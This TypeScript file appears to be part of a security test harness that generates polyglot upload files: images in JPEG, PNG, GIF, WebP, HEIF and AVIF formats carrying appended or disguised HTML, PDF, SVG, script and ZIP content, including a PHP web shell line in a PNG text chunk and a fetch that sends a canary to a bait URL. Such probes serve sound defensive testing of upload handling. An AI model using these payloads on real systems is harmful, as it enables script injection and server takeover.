import { pickByIndex, pick, text, type HostileFile, type Recipe, type RecipeInput } from './hostile-file.ts'
import { withTrailingBox } from './avif.ts'
import { withGifComment } from './gif.ts'
import { jpegMarks, withSegments } from './jpeg.ts'
import { validPicture, type Format } from './pictures.ts'
import { pngChunk, pngSignature, withPngChunks } from './png.ts'
import { pictureChunk, webp } from './riff.ts'
import { svgWith } from './disguised.ts'
import { zipWith } from './zip.ts'

const html = ({ canary, bait }: RecipeInput) =>
  `<html><body onload="alert('${canary}')"><script src="${bait}"></script><img src="${bait}"></body></html>`
const pdf = ({ canary, bait }: RecipeInput) =>
  `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(${bait})>>/Title(${canary})>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
const script = ({ canary, bait }: RecipeInput) => `*/=1;fetch('${bait}?${canary}')//`
const php = ({ canary }: RecipeInput) => `<?php system($_GET['${canary}']); ?>`

type Kind = (turn: RecipeInput) => Promise<{ what: string; bytes: Buffer }>

const withAppended =
  (format: Format, what: string, payload: (turn: RecipeInput) => Buffer | string): Kind =>
  async (turn) => ({
    what: `${format} with ${what} appended`,
    bytes: Buffer.concat([await validPicture(format, turn.index), Buffer.from(payload(turn))]),
  })

const withMagic =
  (magic: Buffer, what: string, payload: (turn: RecipeInput) => string): Kind =>
  async (turn) => ({ what, bytes: Buffer.concat([magic, text(payload(turn))]) })

const jpegMagic = text('\xff\xd8\xff\xe0')

const kinds: Kind[] = [
  withAppended('jpeg', 'a ZIP', ({ canary }) => zipWith('run.js', canary)),
  withAppended('jpeg', 'a page', html),
  withAppended('jpeg', 'a PDF', pdf),
  withAppended('png', 'a script', (turn) => `<script>${script(turn)}</script>`),
  withAppended('png', 'a ZIP', ({ canary }) => zipWith('META-INF/MANIFEST.MF', canary)),
  withAppended('webp', 'a page', html),
  withAppended('gif', 'a script', script),
  withMagic(jpegMagic, 'a PDF behind the magic of a JPEG', pdf),
  withMagic(pngSignature, 'an SVG behind the magic of a PNG', (turn) => svgWith(turn)),
  withMagic(text('GIF89a'), 'an SVG behind the magic of a GIF', (turn) => svgWith(turn)),
  withMagic(text('RIFF\x20\0\0\0WEBP'), 'a page behind the magic of a WebP', html),
  withMagic(text('\0\0\0\x18ftypmif1\0\0\0\0mif1heic'), 'a page behind the magic of a HEIF', html),
  withMagic(text('\0\0\0\x18ftypavif\0\0\0\0mif1avif'), 'an SVG behind the magic of an AVIF', (turn) => svgWith(turn)),
  async (turn) => ({
    what: 'jpeg with a page in its comment',
    bytes: withSegments(await validPicture('jpeg', turn.index), [
      { mark: jpegMarks.comment, data: text(`--><!-- ${html(turn)}`) },
    ]),
  }),
  async (turn) => ({
    what: 'png with PHP in its text',
    bytes: withPngChunks(await validPicture('png', turn.index), [pngChunk('tEXt', text(`Comment\0${php(turn)}`))]),
  }),
  async (turn) => ({
    what: 'webp with a page in a separate chunk',
    bytes: webp([pictureChunk(await validPicture('webp', turn.index)), { type: 'HTML', data: text(html(turn)) }]),
  }),
  async (turn) => ({
    what: 'avif with a page in a separate box',
    bytes: withTrailingBox(await validPicture('avif', turn.index), 'free', html(turn)),
  }),
  async (turn) => {
    // As a script, the width starts a comment that the comment of the picture ends.
    const bytes = Buffer.from(withGifComment(await validPicture('gif', turn.index), script(turn)))
    bytes.write('/*', 6, 'latin1')
    return { what: 'gif that is a script', bytes }
  },
]

const types = ['image/jpeg', 'image/png', 'image/gif', 'image/webp', 'text/html', 'application/octet-stream'] as const

export const polyglot: Recipe = async (turn): Promise<HostileFile> => ({
  ...(await pickByIndex(kinds, turn.index)(turn)),
  contentType: pick(types, turn.random),
})
